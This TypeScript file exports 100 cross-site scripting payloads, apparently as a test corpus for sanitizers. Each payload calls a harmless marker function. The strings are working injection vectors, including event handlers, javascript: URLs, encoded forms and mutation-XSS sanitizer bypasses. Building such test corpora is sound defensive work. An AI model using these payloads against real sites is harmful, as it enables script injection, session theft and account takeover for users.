/** Replaced by the call that a string makes if it runs. */
const CALL = 'RUN';

const TAGS = [
  '<script>RUN</script>',
  '<ScRiPt>RUN</sCrIpT>',
  '<script/x>RUN</script>',
  '<script\n>RUN</script\n>',
  '<<script>RUN//<</script>',
  '<script>RUN',
  '<script type=module>RUN</script>',
  '<script src="data:text/javascript,RUN"></script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '</script><script>RUN</script>',
  '</noscript><script>RUN</script>',
  '--><script>RUN</script><!--',
];

const HANDLERS = [
  '<img src=x onerror=RUN>',
  '<img/src=x/onerror=RUN>',
  '<IMG SRC="" OnErRoR="RUN">',
  '<img src=x onerror\n=\nRUN>',
  '<img srcset=x onerror=RUN>',
  '<body onload=RUN>',
  '<video src=x onerror=RUN>',
  '<video><source onerror=RUN></video>',
  '<audio src=x onerror=RUN>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN></select>',
  '<textarea autofocus onfocus=RUN></textarea>',
  '<details open ontoggle=RUN>x</details>',
  '<object data=x onerror=RUN></object>',
  '<style onload=RUN></style>',
  '<link rel=stylesheet href=data:, onload=RUN onerror=RUN>',
  '<iframe onload=RUN></iframe>',
  '<p onanimationstart=RUN style="animation:x">x</p>',
  '<a tabindex=0 autofocus onfocus=RUN>x</a>',
];

const DRAWINGS = [
  '<svg onload=RUN>',
  '<svg/onload=RUN//',
  '<svg><script>RUN</script></svg>',
  '<svg><script href="data:text/javascript,RUN"/></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set onbegin=RUN attributeName=x></svg>',
  '<svg><image href=x onerror=RUN></svg>',
  '<svg><a href="javascript:RUN"><text y=9>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
  '<svg><style><img src=x onerror=RUN></style></svg>',
  '<math href="javascript:RUN">x</math>',
];

const ADDRESSES = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  'java\tscript:RUN',
  '\u0001javascript:RUN',
  'javascript://%0aRUN',
  'javascript:void(RUN)//@example.in',
  'data:text/html,<script>parent.RUN</script>',
  'data:text/html;charset=utf-8,%3Cscript%3Eparent.RUN%3C/script%3E',
  '<a href=javascript:RUN autofocus>x</a>',
  '<iframe src=javascript:parent.RUN></iframe>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<form action=javascript:RUN><button autofocus>x</button></form>',
  '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<base href="javascript:RUN//">',
];

const ENCODED = [
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;img src=x onerror=RUN&#62;',
  '&#x3c;svg onload=RUN&#x3e;',
  '%3Cscript%3ERUN%3C%2Fscript%3E',
  '%253Csvg%2520onload%253DRUN%253E',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=RUN\\x3e',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '<img src=x onerror=&#32;RUN>',
  '<a href="&#106;avascript:RUN" autofocus>x</a>',
  '<a href="jav&Tab;ascript:RUN">x</a>',
  '<img src=x onerror="&#x65;val(`RUN`)">',
];

const TEMPLATES = [
  "{{constructor.constructor('RUN')()}}",
  '${RUN}',
  '#{RUN}',
  '<%= RUN %>',
  '[[RUN]]',
  '<template><script>RUN</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<svg></p><style><a title="</style><img src=x onerror=RUN>">',
  '<math><mtext><table><mglyph><style><!--</style><a title="--&gt;&lt;img src onerror=RUN&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
];

const BREAK_OUTS = [
  '"><img src=x onerror=RUN>',
  "'><svg onload=RUN>",
  '" autofocus onfocus=RUN x="',
  "' autofocus onfocus='RUN",
  '` onerror=RUN ',
  '";RUN;//',
  "');RUN;//",
  '\\";RUN;//',
  '"}</script><script>RUN</script>',
  ']]><script>RUN</script>',
];

const LETTERS = [
  '＜script＞RUN＜/script＞',
  '<ſcript>RUN</ſcript>',
  '<\u200bscript>RUN</script>',
  '<scr\u0000ipt>RUN</script>',
  '\u202e<script>RUN</script>',
  '\u2028<img src=x onerror=RUN>\u2029',
  '\ufeff<svg onload=RUN>',
  'ಆಶಾ<img src=x onerror=RUN>🙏',
];

/** The name of the function that the script strings call. */
export const ALARM = '__ran__';

/**
 * 100 different texts, each of which has run in some page that took it for markup, an address, a template or
 * code. Each calls the function `ALARM` with its number. At most 100 characters each.
 */
export const SCRIPT_STRINGS: readonly string[] = [
  ...TAGS,
  ...HANDLERS,
  ...DRAWINGS,
  ...ADDRESSES,
  ...ENCODED,
  ...TEMPLATES,
  ...BREAK_OUTS,
  ...LETTERS,
].map((text, number) => text.replaceAll(CALL, `${ALARM}(${number})`));
